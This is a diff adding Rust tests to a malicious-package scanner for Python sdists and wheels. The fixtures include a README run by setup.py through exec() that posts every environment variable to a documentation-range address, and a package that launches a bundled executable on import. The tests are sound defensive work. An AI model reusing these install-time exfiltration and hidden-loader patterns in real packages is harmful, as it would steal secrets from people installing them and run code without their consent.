@@ -665,3 +665,148 @@ fn an_archive_that_cannot_be_read_in_full_leaves_the_scan_unknown() {
         run(customs(tmp.path()).args(["scan", "--fail-on", "critical", whole.to_str().unwrap()]));
     assert_eq!(code, 0);
 }
+
+/// A payload in a member that is not a `.py` file, run by setup.py with
+/// `exec(open(...).read())`, is analysed as install-time code; the usual
+/// version-file idiom stays quiet.
+#[test]
+fn a_text_member_that_setup_py_executes_is_analysed_as_install_code() {
+    let tmp = tempfile::tempdir().unwrap();
+    // Inert: the address is a documentation range and nothing here runs.
+    let readme =
+        b"import os, requests\nrequests.post('http://192.0.2.7/c', json=dict(os.environ))\n";
+    let bad = targz(
+        tmp.path(),
+        "notes-1.0.tar.gz",
+        &[
+            (
+                "notes-1.0/setup.py",
+                b"import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'README.txt')).read())\nsetup(name='notes')\n",
+            ),
+            ("notes-1.0/README.txt", readme),
+        ],
+    );
+    let (code, report) = scan(&bad);
+    assert_eq!(code, 1, "{report}");
+    let finding = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["location"]["path"] == "notes-1.0/README.txt" && f["rule"] == "exfiltration")
+        .unwrap_or_else(|| panic!("{report}"));
+    assert!(
+        matches!(finding["severity"].as_str(), Some("high" | "critical")),
+        "{finding}"
+    );
+    assert!(
+        finding["evidence"]
+            .to_string()
+            .contains("notes-1.0/setup.py:4"),
+        "{finding}"
+    );
+    // The same text in a README nothing runs is prose.
+    let quiet = targz(
+        tmp.path(),
+        "prose-1.0.tar.gz",
+        &[
+            (
+                "prose-1.0/setup.py",
+                b"from setuptools import setup\nexec(open('prose/version.py').read())\nsetup(name='prose', version=__version__)\n",
+            ),
+            ("prose-1.0/prose/version.py", b"__version__ = '1.0'\n"),
+            ("prose-1.0/README.txt", readme),
+        ],
+    );
+    let (code, report) = scan(&quiet);
+    assert_eq!(code, 0, "{report}");
+    assert!(
+        !rules(&report)
+            .iter()
+            .any(|(_, s, _)| s == "high" || s == "critical"),
+        "{report}"
+    );
+}
+
+/// An executable in a pure package is medium alone; with a loader that
+/// runs on import it is high, and the finding names the loader.
+#[test]
+fn an_executable_with_a_loader_that_runs_on_import_is_high() {
+    let tmp = tempfile::tempdir().unwrap();
+    let mut exe = b"MZ".to_vec();
+    exe.resize(256, 0);
+    let loader: &[u8] = b"import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper.exe')])\n";
+    let with_loader = wheel(
+        tmp.path(),
+        "helper-1.0-py3-none-any.whl",
+        &[
+            ("helper/__init__.py", loader),
+            ("helper/helper.exe", &exe),
+            ("helper-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+        ],
+    );
+    let (_, report) = scan(&with_loader);
+    let finding = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "binary-payload")
+        .unwrap_or_else(|| panic!("{report}"));
+    assert_eq!(finding["severity"], "high", "{finding}");
+    assert!(
+        finding["evidence"]
+            .to_string()
+            .contains("helper/__init__.py:2"),
+        "{finding}"
+    );
+    // A bundled library loaded with ctypes, and a program started only
+    // when a function is called: what honest packages with native parts do.
+    for (name, init) in [
+        (
+            "ctypes",
+            &b"import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'helper.exe'))\n"[..],
+        ),
+        (
+            "asked",
+            &b"import os, subprocess\nEXE = os.path.join(os.path.dirname(__file__), 'helper.exe')\ndef start():\n    subprocess.Popen([EXE])\n"[..],
+        ),
+    ] {
+        let w = wheel(
+            tmp.path(),
+            &format!("{name}-1.0-py3-none-any.whl"),
+            &[
+                (&format!("{name}/__init__.py"), init),
+                (&format!("{name}/helper.exe"), &exe),
+                (&format!("{name}-1.0.dist-info/WHEEL"), b"Wheel-Version: 1.0\n"),
+            ],
+        );
+        let (_, report) = scan(&w);
+        assert!(
+            rules(&report).contains(&(
+                "binary-payload".into(),
+                "medium".into(),
+                format!("{name}/helper.exe")
+            )),
+            "{name}: {report}"
+        );
+    }
+    // Named only by a test: nothing runs it on install or import.
+    let tested = wheel(
+        tmp.path(),
+        "tested-1.0-py3-none-any.whl",
+        &[
+            ("tested/__init__.py", b"VERSION = '1.0'\n"),
+            ("tested/tests/test_run.py", loader),
+            ("tested/helper.exe", &exe),
+            ("tested-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+        ],
+    );
+    let (_, report) = scan(&tested);
+    assert!(
+        rules(&report).contains(&(
+            "binary-payload".into(),
+            "medium".into(),
+            "tested/helper.exe".into()
+        )),
+        "{report}"
+    );
+}
